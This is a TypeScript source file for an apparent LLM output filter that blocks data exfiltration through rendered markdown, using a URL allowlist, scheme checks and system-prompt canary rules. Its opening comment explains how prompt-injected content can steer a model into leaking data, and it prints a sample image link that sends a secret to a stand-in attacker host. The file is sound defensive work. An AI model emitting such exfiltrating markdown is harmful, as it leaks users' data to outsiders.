// Output exfiltration checks (OWASP LLM05): a model steered by injected content can leak data through markdown
// that a chat UI renders — an image is fetched with no click (`![x](https://evil.example/?q=<secret>)`), a link or a
// bare URL carries data in its URL, raw HTML can load resources or run script. What counts as a link, an image or
// raw HTML is decided by markdown-it (markdown.ts, markdown-parse.ts, markdown-html.ts); this file holds the URL
// policy (allowlist), the mode and the canary rules.
import type { ExfilPolicy } from './markdown.ts';
import { redactionMarker, regexRule, type Rule } from './rules.ts';

export type ExfiltrationMode = 'off' | 'flag' | 'neutralize' | 'block';

/** Host allowlist entries: `docs.example.com` (exact) or `*.example.com` (any subdomain, not the apex). */
export function hostAllowed(host: string, allowed: readonly string[]): boolean {
  const h = host.toLowerCase().replace(/\.$/, '');
  for (const raw of allowed) {
    const a = raw.toLowerCase().replace(/\.$/, '');
    if (a.startsWith('*.') ? h.endsWith(a.slice(1)) && h.length > a.length - 1 : h === a) return true;
  }
  return false;
}

const RELATIVE_BASE = 'https://relative.tollgate.invalid/';

/**
 * Whether a URL in output may stay as it is. It is resolved the way a browser resolves it on a page served over
 * https (WHATWG URL: tabs and newlines dropped, backslashes are slashes, `//host` is protocol-relative, entities
 * already decoded by the caller); relative URLs stay (they resolve to the page's own origin), mailto: and tel: stay,
 * http(s) stays when its host is on the allowlist; every other scheme (javascript:, data:, vbscript:, file:, ftp:)
 * and anything that does not parse goes.
 */
export function urlAllowed(rawUrl: string, allowed: readonly string[]): boolean {
  let u: URL;
  try {
    u = new URL(rawUrl.trim().replace(/^<([^>]*)>$/, '$1'), RELATIVE_BASE);
  } catch {
    return false;
  }
  if (u.protocol === 'mailto:' || u.protocol === 'tel:') return true;
  if (u.protocol !== 'http:' && u.protocol !== 'https:') return false;
  if (u.href.startsWith(RELATIVE_BASE)) return true;
  return hostAllowed(u.hostname, allowed);
}

/** The exfiltration stage's policy for a mode (undefined in mode off). The stage itself is markdown.ts. */
export function exfiltrationPolicy(mode: ExfiltrationMode, allowedHosts: readonly string[]): ExfilPolicy | undefined {
  if (mode === 'off') return undefined;
  return { rewrite: mode !== 'flag', urlBad: (url) => !urlAllowed(url, allowedHosts) };
}

/** Canaries: strings planted in a system prompt; seeing one in output means the prompt leaked. Case-insensitive. */
export function canaryRules(canaries: readonly string[]): Rule[] {
  return canaries
    .filter((c) => c.length > 0)
    .map((c) =>
      regexRule({
        name: 'canary',
        kind: 'canary',
        pattern: `(?i)${c.replace(/[\\^$.|?*+()[\]{}]/g, '\\$&')}`,
        replace: () => redactionMarker('canary'),
      }),
    );
}
